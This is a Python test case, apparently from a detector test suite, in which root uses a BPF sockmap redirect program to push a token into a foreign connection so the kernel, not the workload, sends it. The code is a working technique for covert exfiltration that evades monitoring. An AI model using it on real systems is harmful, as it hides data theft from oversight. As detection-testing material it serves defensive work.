#!/usr/bin/python3
# id: c56_sockmap_redirect
# title: root redirects what it sends to itself into a connection received over SCM_RIGHTS, by a BPF map of sockets
# needs: root
# expect: detect
# why: the kernel's own worker sends; the workload only writes to a local socket of its own
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
from kernelbpf import *
def f():
    s = foreign('connected'); a, b = socket.socketpair(); m, n = create_map(SOCKMAP, 4, 4, 1), create_map(SOCKMAP, 4, 4, 1)
    # return sk_redirect_map(packet, map, 0, 0)
    code = [ld_map(2, m), i(0xb7, 3, 0, 0, 0), i(0xb7, 4, 0, 0, 0), i(0x85, 0, 0, 0, 52), i(0x95, 0, 0, 0, 0)]
    attach(load(SK_SKB, code, attach=SK_SKB_VERDICT), n, SK_SKB_VERDICT)
    update(m, 0, s.fileno()); update(n, 0, b.fileno()); a.sendall(TOK.encode() + b'\n'); time.sleep(.7)
attempt(f)
